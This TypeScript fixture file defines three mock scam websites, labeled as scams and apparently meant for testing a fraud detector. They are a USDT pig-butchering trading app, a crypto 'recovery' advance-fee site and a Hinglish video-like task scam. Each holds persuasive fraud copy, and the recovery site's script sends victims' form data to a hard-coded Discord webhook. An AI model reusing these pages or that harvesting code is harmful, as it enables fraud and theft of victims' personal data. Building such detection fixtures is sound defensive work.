import { htmlRoute, type Entry } from '../entry.js';
import { cssRoute, jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

// ---------- "Pig-butchering" trading platform (mobile web-app style) ----------
const pbHost = 'm.quantvex-global.com';
const pbPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1,user-scalable=no">
<meta name="apple-mobile-web-app-capable" content="yes">
<title>QuantVex | Global Digital Asset Contract Trading</title>
<link rel="manifest" href="/manifest.json">
<link rel="stylesheet" href="/static/css/app.3f1a.css">
</head>
<body>
<div id="app">
 <div class="hdr"><img src="/static/img/logo.png" alt=""><span>QuantVex</span><a class="svc" href="#" id="cs">&#128172; Online Service</a></div>
 <div class="notice"><marquee>&#128226; Congratulations to user 138****7720 for earning 48,260 USDT in the AI Quant Arbitrage plan &nbsp; &#128226; VIP5 user em***@gmail.com withdrew 112,000 USDT &nbsp; &#128226; New Year activity: deposit 10,000 USDT and receive a 20% bonus</marquee></div>
 <div class="bal"><small>Total assets (USDT)</small><b id="tot">0.00</b><div class="row"><a href="#dep">Deposit</a><a href="#wd">Withdraw</a><a href="#ai">AI Quant</a></div></div>
 <div class="mk"><h4>Market</h4><table id="mkt"><tr><th>Pair</th><th>Price</th><th>24h</th></tr></table></div>
 <div class="plans" id="ai"><h4>AI Quant Arbitrage Plans</h4>
  <div class="pl"><b>Starter</b><span>Daily 1.8% &middot; 7 days &middot; min 500 USDT</span></div>
  <div class="pl"><b>VIP 3</b><span>Daily 3.2% &middot; 15 days &middot; min 10,000 USDT</span></div>
  <div class="pl hot"><b>Mentor Signal (limited)</b><span>Single contract +38% in 60s &middot; min 50,000 USDT &middot; invitation code required</span></div>
 </div>
 <div class="dep" id="dep"><h4>Deposit USDT (TRC20)</h4>
  <p>Only send USDT via the TRON (TRC20) network to the address below. Deposits are credited after 1 confirmation.</p>
  <div class="addr" id="addr">TQm7vC4yFzNn2rP1WgkX8sL3dHbU6aE9oJ</div><button id="cp">Copy address</button>
  <p class="warn">After the transfer, upload your transaction hash and contact Online Service to credit your account.</p>
  <input id="hash" placeholder="TXID / transaction hash"><button id="sub">Submit</button>
 </div>
 <div class="dep" id="wd"><h4>Withdraw</h4><p>Withdrawals require the account to reach VIP2 and payment of the 15% personal income tax &amp; risk deposit in advance. Frozen accounts must complete credit-score repair first.</p></div>
 <div class="tab"><a class="on">Home</a><a>Market</a><a>Contract</a><a>Assets</a><a>Mine</a></div>
</div>
<div class="chat" id="chat" hidden><div class="ch">Online Service &middot; Ms. Lin <button id="cx">&times;</button></div><div class="cm" id="cm"><p class="them">Hello dear, welcome to QuantVex. I am your personal account manager. My uncle works in the quantitative team at a Hong Kong fund, we get insider signal each day 9:00pm. Do you want to follow my plan today?</p></div><input id="ci" placeholder="Type a message"></div>
<script src="/static/js/chunk-vendors.js"></script>
<script src="/static/js/app.8c2e.js"></script>
</body>
</html>`;
const pbCss = `body{margin:0;background:#0b0e11;color:#eaecef;font-family:"PingFang SC","Helvetica Neue",Arial,sans-serif;font-size:14px}#app{max-width:480px;margin:0 auto;padding-bottom:60px}
.hdr{display:flex;align-items:center;gap:8px;padding:12px}.hdr img{width:28px;height:28px;border-radius:6px}.hdr span{font-weight:700;font-size:18px;color:#f0b90b}.svc{margin-left:auto;color:#f0b90b;text-decoration:none;font-size:13px}
.notice{background:#1e2329;color:#f0b90b;font-size:12px;padding:6px}.bal{margin:12px;background:linear-gradient(135deg,#2b3139,#1e2329);border-radius:12px;padding:16px}.bal b{display:block;font-size:28px;margin:6px 0}
.row{display:flex;gap:8px}.row a{flex:1;text-align:center;background:#f0b90b;color:#000;border-radius:6px;padding:8px;text-decoration:none;font-weight:600}
.mk,.plans,.dep{margin:12px;background:#1e2329;border-radius:10px;padding:12px}table{width:100%}th{color:#848e9c;text-align:left;font-weight:400}.up{color:#0ecb81}.dn{color:#f6465d}
.pl{border:1px solid #2b3139;border-radius:8px;padding:10px;margin:6px 0}.pl span{display:block;color:#848e9c;font-size:12px}.pl.hot{border-color:#f0b90b}
.addr{font-family:monospace;background:#0b0e11;padding:10px;border-radius:6px;word-break:break-all}button{background:#f0b90b;border:0;border-radius:6px;padding:8px 14px;margin:6px 0}input{width:100%;box-sizing:border-box;padding:9px;background:#0b0e11;border:1px solid #2b3139;color:#fff;border-radius:6px}.warn{color:#f6465d;font-size:12px}
.tab{position:fixed;bottom:0;left:0;right:0;display:flex;background:#1e2329;max-width:480px;margin:0 auto}.tab a{flex:1;text-align:center;padding:12px 0;color:#848e9c}.tab a.on{color:#f0b90b}
.chat{position:fixed;right:10px;bottom:70px;width:300px;background:#fff;color:#222;border-radius:10px;overflow:hidden}.ch{background:#f0b90b;padding:8px;font-weight:600}.ch button{float:right;margin:0;padding:0 6px}.cm{height:220px;overflow:auto;padding:8px}.them{background:#f1f1f1;border-radius:8px;padding:8px}`;
const pbVendors = `/*! vendors ~ tiny event bus + ws shim */(function(w){var h={};w.__bus={on:function(e,f){(h[e]=h[e]||[]).push(f)},emit:function(e,d){(h[e]||[]).forEach(function(f){f(d)})}};})(window);`;
const pbApp = `(function(){var $=function(i){return document.getElementById(i)};
var api='/api/v2';var tok=localStorage.getItem('qv_token')||('g_'+Math.random().toString(36).slice(2));localStorage.setItem('qv_token',tok);
fetch(api+'/user/info',{headers:{Authorization:'Bearer '+tok}}).then(function(r){return r.json()}).then(function(j){$('tot').textContent=(j.data.balance).toFixed(2)});
function mk(){fetch(api+'/market/tickers').then(function(r){return r.json()}).then(function(j){var t=$('mkt');while(t.rows.length>1)t.deleteRow(1);j.data.forEach(function(x){var r=t.insertRow();r.innerHTML='<td>'+x.s+'</td><td>'+x.p+'</td><td class="'+(x.c>=0?'up':'dn')+'">'+(x.c>=0?'+':'')+x.c+'%</td>'})})}
mk();setInterval(mk,5000);
$('cp').onclick=function(){navigator.clipboard.writeText($('addr').textContent)};
$('sub').onclick=function(){fetch(api+'/recharge/submit',{method:'POST',headers:{'Content-Type':'application/json',Authorization:'Bearer '+tok},body:JSON.stringify({txid:$('hash').value,chain:'TRC20'})}).then(function(){$('chat').hidden=false})};
$('cs').onclick=function(e){e.preventDefault();$('chat').hidden=false};$('cx').onclick=function(){$('chat').hidden=true};
setTimeout(function(){$('chat').hidden=false},6000);
})();`;

// ---------- Recovery scam: "we recover stolen crypto" for an upfront fee ----------
const rcHost = 'www.chainrecover-forensics.io';
const rcPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>ChainRecover Forensics – Get Back Your Stolen Crypto | 97% Success Rate</title>
<meta name="description" content="Lost money to a fake investment platform, romance scam or crypto fraud? Our licensed blockchain forensic analysts trace and recover stolen funds.">
<link rel="stylesheet" href="/assets/site.css">
</head>
<body>
<header class="nav"><a class="lg" href="/">Chain<b>Recover</b></a><nav><a href="#how">How it works</a><a href="#cases">Recovered cases</a><a href="#fees">Fees</a><a class="cta" href="#claim">Start a claim</a></nav></header>
<section class="hero"><div>
 <h1>Scammed? We trace and <em>recover</em> your stolen crypto.</h1>
 <p>Certified blockchain investigators working with exchanges, law enforcement and the FBI IC3. Over <b>$214 million</b> returned to victims of investment, romance and pig-butchering fraud since 2019.</p>
 <ul class="ticks"><li>Free case evaluation in 30 minutes</li><li>Recovery in 48–72 hours</li><li>97.4% success rate</li></ul>
</div><div class="badge">Recovered this week<br><b id="rw">$1,482,900</b><small>Live counter</small></div></section>
<section id="how" class="how"><div><b>1</b><h3>Submit your case</h3><p>Tell us the platform, wallet addresses and TXIDs.</p></div><div><b>2</b><h3>Forensic trace</h3><p>Our analysts follow the funds across mixers and bridges to the receiving exchange.</p></div><div><b>3</b><h3>Freeze &amp; return</h3><p>We file a legal freeze order and the exchange returns your assets to your wallet.</p></div></section>
<section id="cases" class="cases"><blockquote>“I lost 86,000 USDT to a fake trading app. ChainRecover got all of it back in 5 days.” <cite>— Daniel K., Ohio</cite></blockquote><blockquote>“After my bank refused to help, they recovered 3.1 BTC from the scammers.” <cite>— Priya M., Toronto</cite></blockquote></section>
<section id="fees" class="fees"><h2>Transparent fees</h2><p>A one-time <b>forensic trace &amp; legal filing fee of 10%</b> of the amount lost is payable in advance (USDT, BTC or wire). This covers the court freeze order and exchange compliance costs. Fees are fully refunded if we fail to recover your funds.</p></section>
<section id="claim" class="claim"><h2>Start your free claim</h2>
<form id="cf"><input name="name" placeholder="Full name" required><input name="email" type="email" placeholder="Email" required><input name="phone" placeholder="Phone / WhatsApp / Telegram" required>
<select name="type"><option>Fake investment / trading platform</option><option>Romance / pig-butchering</option><option>Wallet drained / seed phrase stolen</option><option>Fake exchange</option><option>Other</option></select>
<input name="amount" placeholder="Amount lost (USD)"><input name="platform" placeholder="Platform name / website"><textarea name="story" rows="4" placeholder="Describe what happened, include wallet addresses and TXIDs"></textarea>
<button>Get my free evaluation</button></form><div id="thx" hidden>Thank you. A senior recovery agent will contact you on WhatsApp within 30 minutes.</div></section>
<footer>ChainRecover Forensics Ltd &middot; 1 Canada Square, London E14 5AB &middot; Registered with the FCA (Ref 912204) &middot; <a href="https://t.me/ChainRecover_Agent">Telegram</a></footer>
<script src="/assets/site.js"></script>
</body>
</html>`;
const rcCss = `body{margin:0;font-family:Inter,system-ui,Arial,sans-serif;color:#0f172a;background:#fff}.nav{display:flex;justify-content:space-between;align-items:center;padding:16px 6vw;border-bottom:1px solid #e2e8f0}.lg{font-size:22px;text-decoration:none;color:#0f172a}.lg b{color:#2563eb}
.nav a{margin-left:18px;color:#334155;text-decoration:none}.nav .cta{background:#2563eb;color:#fff;padding:8px 14px;border-radius:6px}
.hero{display:flex;gap:40px;padding:60px 6vw;background:#f1f5f9;align-items:center}.hero h1{font-size:40px;margin:0}.hero em{color:#2563eb;font-style:normal}.badge{background:#0f172a;color:#fff;padding:24px;border-radius:12px;text-align:center;min-width:220px}.badge b{font-size:30px;color:#22c55e;display:block}
.how{display:grid;grid-template-columns:repeat(3,1fr);gap:20px;padding:40px 6vw}.how b{display:inline-block;width:34px;height:34px;border-radius:50%;background:#2563eb;color:#fff;text-align:center;line-height:34px}
.cases{padding:20px 6vw;display:grid;grid-template-columns:1fr 1fr;gap:20px}blockquote{background:#f8fafc;border-left:4px solid #2563eb;margin:0;padding:16px}.fees,.claim{padding:30px 6vw}
form{display:grid;grid-template-columns:1fr 1fr;gap:10px;max-width:720px}form input,form select,form textarea{padding:10px;border:1px solid #cbd5e1;border-radius:6px}form textarea,form button{grid-column:span 2}form button{background:#2563eb;color:#fff;border:0;padding:12px;border-radius:6px;font-size:16px}
footer{background:#0f172a;color:#94a3b8;padding:20px 6vw;font-size:12px}footer a{color:#93c5fd}`;
const rcJs = `(function(){var n=1482900;setInterval(function(){n+=Math.floor(Math.random()*900);document.getElementById('rw').textContent='$'+n.toLocaleString('en-US')},2500);
var W='https://discord.com/api/webhooks/1301187722209310852/vQ3lTzR8cN1mK0xJp7aYbE2sWfH5uG9dLq4oZiC6nVtRkMeA-PjD_lBhXyUwF3gS';
document.getElementById('cf').addEventListener('submit',function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});
var lines=Object.keys(o).map(function(k){return '**'+k+'**: '+o[k]}).join('\\n');
fetch(W,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({username:'Leads',content:'New recovery lead\\n'+lines})}).catch(function(){});
fetch('/api/lead',{method:'POST',body:new URLSearchParams(o)}).finally(function(){document.getElementById('cf').hidden=true;document.getElementById('thx').hidden=false})});})();`;

// ---------- Task scam (Hinglish): paid to like YouTube videos, then "prepaid tasks" ----------
const tkHost = 'earn.likeandearn-daily.in';
const tkPage = `<!DOCTYPE html>
<html lang="hi">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Like &amp; Earn – घर बैठे रोज़ ₹3000–₹8000 कमाएं | Part Time Job</title>
<style>
body{margin:0;font-family:"Noto Sans Devanagari","Segoe UI",Arial,sans-serif;background:#fff7ed;color:#1c1917}
.top{background:#ea580c;color:#fff;padding:14px 16px;font-weight:700;font-size:18px}
.c{max-width:480px;margin:0 auto;padding:14px}
.card{background:#fff;border-radius:12px;padding:14px;box-shadow:0 2px 10px rgba(0,0,0,.06);margin-bottom:14px}
.task{display:flex;align-items:center;gap:10px;border-bottom:1px solid #f1f1f1;padding:10px 0}.task .th{width:64px;height:40px;background:#ddd;border-radius:6px}.task button{margin-left:auto;background:#dc2626;color:#fff;border:0;border-radius:6px;padding:6px 10px}
.task.done button{background:#16a34a}
.earn{font-size:26px;font-weight:800;color:#16a34a}
.lvl{display:grid;grid-template-columns:1fr 1fr;gap:8px}.lvl div{border:1px solid #fed7aa;border-radius:8px;padding:8px;font-size:13px;background:#fffaf5}
.tg{display:block;text-align:center;background:#229ed9;color:#fff;padding:14px;border-radius:10px;font-weight:700;text-decoration:none}
.proof img{width:100%;border-radius:8px}
</style>
</head>
<body>
<div class="top">&#128176; Like &amp; Earn – Work From Home</div>
<div class="c">
 <div class="card">
  <p><b>नमस्ते!</b> हम एक YouTube marketing agency हैं। आपको बस हमारे clients के videos को <b>Like</b> करना है और screenshot भेजना है। हर like पर <b>₹50</b>!</p>
  <p>Daily 3 free tasks = ₹150 instant UPI में। कोई investment नहीं (free tasks के लिए)।</p>
 </div>
 <div class="card"><b>आज के free tasks</b>
  <div class="task" data-id="1"><div class="th"></div><div>Task 1 – Music video like<br><small>₹50</small></div><button>Like करें</button></div>
  <div class="task" data-id="2"><div class="th"></div><div>Task 2 – Travel vlog like<br><small>₹50</small></div><button>Like करें</button></div>
  <div class="task" data-id="3"><div class="th"></div><div>Task 3 – Cooking channel subscribe<br><small>₹50</small></div><button>Like करें</button></div>
  <p>आपकी कमाई: <span class="earn" id="earn">₹0</span></p>
 </div>
 <div class="card" id="vip" style="display:none">
  <b>&#11088; Prepaid Merchant Tasks (VIP)</b>
  <p>Free tasks पूरे! अब ज़्यादा कमाने के लिए merchant tasks join करें। आप amount deposit करते हैं और 30 मिनट में <b>30%–50% profit</b> के साथ वापस मिलता है:</p>
  <div class="lvl"><div>₹1,000 &rarr; ₹1,300</div><div>₹5,000 &rarr; ₹6,800</div><div>₹15,000 &rarr; ₹21,000</div><div>₹50,000 &rarr; ₹75,000</div></div>
  <p>Withdraw के लिए सभी 25 tasks पूरे करने होंगे। Deposit UPI: <b>likeearn.pay@ybl</b></p>
  <input id="utr" placeholder="UTR / Transaction ID" style="width:100%;padding:10px;box-sizing:border-box;border:1px solid #ddd;border-radius:6px">
  <button id="sb" style="width:100%;margin-top:8px;background:#ea580c;color:#fff;border:0;padding:12px;border-radius:8px">Submit &amp; Unlock Tasks</button>
 </div>
 <a class="tg" href="https://t.me/+Qm4RL8xdLw9iYzI1">Telegram पर Receptionist से जुड़ें</a>
 <div class="card proof"><b>आज के payment proofs</b><p>Ramesh ने ₹18,400 withdraw किए &#9989;<br>Sneha ने ₹7,250 withdraw किए &#9989;<br>Imran ने ₹42,000 withdraw किए &#9989;</p></div>
</div>
<script>
(function(){var e=0;document.querySelectorAll('.task button').forEach(function(b){b.onclick=function(){var t=b.parentNode;if(t.classList.contains('done'))return;t.classList.add('done');b.textContent='Done ✓';e+=50;document.getElementById('earn').textContent='₹'+e;
fetch('/api/task/complete',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({id:t.dataset.id,uid:localStorage.uid||(localStorage.uid=Date.now())})});
if(document.querySelectorAll('.task.done').length===3){setTimeout(function(){alert('बधाई हो! ₹150 आपके wallet में। Withdraw के लिए Telegram पर receptionist को UPI ID भेजें।');document.getElementById('vip').style.display='block'},600)}}});
document.getElementById('sb').onclick=function(){fetch('/api/deposit',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({utr:document.getElementById('utr').value,uid:localStorage.uid})}).then(function(){alert('Deposit verify हो रहा है। Mentor से Telegram पर संपर्क करें।')})};})();
</script>
</body>
</html>`;

export const entries: Entry[] = [
  {
    id: 'e-scam-invest-pigbutcher-usdt',
    label: 'scam',
    kind: 'investment-platform',
    url: `https://${pbHost}/#/pages/home/index?invite=LIN8820`,
    routes: {
      [`${pbHost}/`]: htmlRoute(pbPage),
      [`${pbHost}/manifest.json`]: jsonRoute({ name: 'QuantVex', short_name: 'QuantVex', display: 'standalone', start_url: '/' }),
      [`${pbHost}/static/css/app.3f1a.css`]: cssRoute(pbCss),
      [`${pbHost}/static/js/chunk-vendors.js`]: jsRoute(pbVendors),
      [`${pbHost}/static/js/app.8c2e.js`]: jsRoute(pbApp),
      [`${pbHost}/static/img/logo.png`]: pngRoute(240, 185, 11),
      [`${pbHost}/api/v2/user/info`]: jsonRoute({ code: 0, data: { uid: 880217, vip: 1, balance: 1250.0, frozen: 0 } }),
      [`${pbHost}/api/v2/market/tickers`]: jsonRoute({ code: 0, data: [{ s: 'BTC/USDT', p: '97,412.50', c: 1.82 }, { s: 'ETH/USDT', p: '3,651.20', c: -0.44 }, { s: 'SOL/USDT', p: '218.37', c: 4.11 }, { s: 'XAU/USDT', p: '2,684.9', c: 0.31 }] }),
      [`${pbHost}/api/v2/recharge/submit`]: jsonRoute({ code: 0, msg: 'pending review' }),
    },
  },
  {
    id: 'e-scam-recovery-lost-funds',
    label: 'scam',
    kind: 'recovery-scam',
    url: `https://${rcHost}/?gclid=Cj0KCQiA_recovery`,
    routes: {
      [`${rcHost}/`]: htmlRoute(rcPage),
      [`${rcHost}/assets/site.css`]: cssRoute(rcCss),
      [`${rcHost}/assets/site.js`]: jsRoute(rcJs),
      [`${rcHost}/api/lead`]: jsonRoute({ ok: true }),
    },
  },
  {
    id: 'e-scam-task-video-likes-hi',
    label: 'scam',
    kind: 'task-scam',
    url: `https://${tkHost}/join/ref/RK2207`,
    body: tkPage,
    routes: {
      [`${tkHost}/api/task/complete`]: jsonRoute({ ok: 1 }),
      [`${tkHost}/api/deposit`]: jsonRoute({ ok: 1, status: 'verifying' }),
    },
  },
];
